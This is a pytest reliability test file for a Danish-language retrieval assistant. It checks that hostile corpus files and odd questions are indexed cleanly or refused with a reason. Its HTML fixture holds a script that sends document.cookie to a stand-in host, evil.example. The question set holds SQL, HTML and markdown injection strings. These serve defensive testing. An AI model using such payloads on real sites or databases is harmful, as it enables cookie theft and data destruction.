"""Hostile or broken corpus files and questions: each indexed or refused with its reason."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pypdf
import pytest

from coiassist.assistant import Assistant
from coiassist.config import Settings, load_settings
from coiassist.errors import QuestionError
from coiassist.ingest import MAX_FILE_BYTES
from coiassist.models import Answer
from coiassist.vectors import forget_clients
from tests.index_helpers import assert_consistent, index_state
from tests.reliability.helpers import assert_one_line_error, cli_env, code_name, run_cli, write_articles

pytestmark = pytest.mark.reliability

HTML = """<!doctype html><html><head><title>Borgerbudgetter i Vejle</title>
<script>alert('xss'); fetch('https://evil.example/?c=' + document.cookie)</script></head>
<body><nav>Forside | Om os</nav><iframe src="https://evil.example/frame"></iframe>
<article><h1>Borgerbudgetter i Vejle</h1>
<p>Vejle Kommune lod borgerne fordele to millioner kroner til lokale projekter i bydelene.</p>
<p>Over tre tusind borgere stemte, og de fleste valgte legepladser og bænke ved søerne.</p>
<p onclick="steal()">Kommunen gentager forsøget næste år med et større budget til bydelene.</p>
</article><script src="https://evil.example/x.js"></script><footer>Cookie-banner</footer></body></html>
"""


def _settings(home: Path, corpus: Path) -> Settings:
    return load_settings(
        {"home": home, "corpus": corpus, "chunk_tokens": 40, "chunk_overlap_tokens": 10},
        config_file=home / "none.toml",
    )


def _blank_pdf(path: Path) -> None:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(width=595, height=842)
    with path.open("wb") as out:
        writer.write(out)


def test_hostile_corpus_files_are_indexed_or_refused_with_a_reason(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    write_articles(corpus, range(6))
    (corpus / "billede.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + os.urandom(4096))
    latin1 = "Ældreplejen i Skive\n\nSkive Kommune har øget bemandingen i ældreplejen, der er flere ældre.\n"
    (corpus / "latin1.txt").write_bytes(latin1.encode("latin-1"))
    (corpus / "ugyldig.txt").write_bytes(
        b"Titel\n\nTekst med \xc3\x28 og \xff\xfe\xfd midt i\x81\x8d\x8f\x90.\n"
    )
    with (corpus / "kaempe.txt").open("wb") as big:
        big.truncate(MAX_FILE_BYTES + 1)  # 50 MB (sparse: no time spent writing it)
    (corpus / "tom.md").write_bytes(b"")
    (corpus / "side.html").write_text(HTML, encoding="utf-8")
    _blank_pdf(corpus / "scannet.pdf")
    good = {"id": "bulk-1", "title": "Tillitsreform i Bergen", "text": "Bergen kommune tester tillitsreform."}
    lines = [
        json.dumps(good, ensure_ascii=False),
        "{not json at all",
        json.dumps(good, ensure_ascii=False),  # duplicate id
        json.dumps({"id": "bulk-2", "title": "Uden tekst"}),
        json.dumps(
            {"id": "bulk-3", "title": "Digital post", "text": "Digital post sparer tid for borgerne."}
        ),
    ]
    (corpus / "bulk.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    (corpus / "nyheder" / "Velfærd og nærhed.md").write_text(
        "# Velfærd og nærhed\n\nNærhed i velfærden betyder, at medarbejderne kender borgerne.\n",
        encoding="utf-8",
    )
    outside = tmp_path / "hemmelig.txt"
    outside.write_text("Hemmelig\n\nDenne fil ligger uden for korpusset og må aldrig indekseres.\n", "utf-8")
    (corpus / "genvej.txt").symlink_to(outside)
    (corpus / "mappe-genvej").symlink_to(tmp_path, target_is_directory=True)

    home = tmp_path / "home"
    result = run_cli(["index", "--json", "--corpus", str(corpus)], cli_env(home))
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    report = json.loads(result.stdout)
    reasons = {e["path"]: e["reason"] for e in report["errors"]}
    assert "binary" in reasons["billede.txt"]
    assert "too large" in reasons["kaempe.txt"]
    assert "tom.md" in reasons
    assert "text" in reasons["scannet.pdf"].lower()
    assert "bulk.jsonl:2" in reasons
    assert any(p.startswith("bulk.jsonl:") and "duplicate" in r for p, r in reasons.items())
    assert any(p.startswith("bulk.jsonl:4") for p in reasons)
    assert "outside" in reasons["genvej.txt"] and "outside" in reasons["mappe-genvej"]
    assert all(reason.strip() for reason in reasons.values())

    forget_clients()
    settings = _settings(home, corpus)
    state = index_state(settings)
    assert_consistent(state)
    indexed = {c[0].rsplit(":", 1)[0] for c in state.chunks}
    texts = " ".join(c[3] for c in state.chunks)
    assert {"latin1", "side", "bulk-1", "bulk-3", "nyheder/Velfærd-og-nærhed"} <= indexed
    assert "ugyldig" in indexed or "ugyldig.txt" in reasons  # legacy-looking bytes read, else refused
    assert len([i for i in indexed if i.startswith(("nyheder/artikel", "analyser/artikel", "artikel"))]) == 6
    assert "Ældreplejen" in texts or "ældreplejen" in texts
    assert "Hemmelig" not in texts and "alert" not in texts and "evil.example" not in texts
    assert "<script" not in texts and "<iframe" not in texts and "Cookie-banner" not in texts
    assert report["added"] == len(indexed)


@pytest.fixture(scope="module")
def assistant(tmp_path_factory: pytest.TempPathFactory) -> Assistant:
    from coiassist.indexer import index_corpus

    root = tmp_path_factory.mktemp("questions")
    write_articles(root / "corpus", range(12))
    settings = _settings(root / "home", root / "corpus")
    index_corpus(settings)
    forget_clients()
    return Assistant(settings)


QUESTIONS = {
    "empty": "",
    "whitespace": " \t\n  \u3000 ",
    "100 KB": "Hvad handler projektet om? " * 3800,
    "only emoji": "🤔🙈🇩🇰❓",
    "SQL injection": "'; DROP TABLE chunks; -- hvad er velfærdsteknologi?",
    "HTML injection": "<script>alert(1)</script><img src=x onerror=alert(2)> hvad er tillitsreform?",
    "markdown injection": "![x](https://evil.example/?q=1) [klik](javascript:alert(1)) hvad er digital post?",
    "control characters": "hvad\x00 er\x07 velfærds\x1bteknologi\x7f?",
    "mixed languages": f"What is {code_name(4)}, og hvordan virker prosjektet i kommunen, und warum?",
    "lone surrogates and odd forms": "hvad er ﬁnansiering af ældrepleje \ud800?",
    "right-to-left override": "hvad er \u202eyrotsih\u202c digital post?",
}


@pytest.mark.parametrize("name", list(QUESTIONS))
def test_odd_questions_get_an_answer_or_a_clear_refusal(name: str, assistant: Assistant) -> None:
    try:
        answer = assistant.ask(QUESTIONS[name])
    except QuestionError as exc:
        assert str(exc) and name in {"empty", "whitespace", "100 KB", "only emoji"}, (name, exc)
        return
    assert isinstance(answer, Answer)
    assert answer.answer.strip()
    for payload in ("<script", "onerror", "evil.example", "javascript:", "![", "\x00", "\x1b"):
        assert payload not in answer.answer, (name, payload)


def test_cli_refuses_bad_questions_in_one_line(assistant: Assistant) -> None:
    env = cli_env(assistant.settings.home)
    assert_one_line_error(run_cli(["ask", "   "], env), "empty")
    assert_one_line_error(run_cli(["ask", QUESTIONS["100 KB"]], env), "limit")
    odd = run_cli(["ask", "--json", QUESTIONS["control characters"].replace("\x00", "")], env)
    assert odd.returncode == 0 and "Traceback" not in odd.stderr
    assert json.loads(odd.stdout)["answer"]
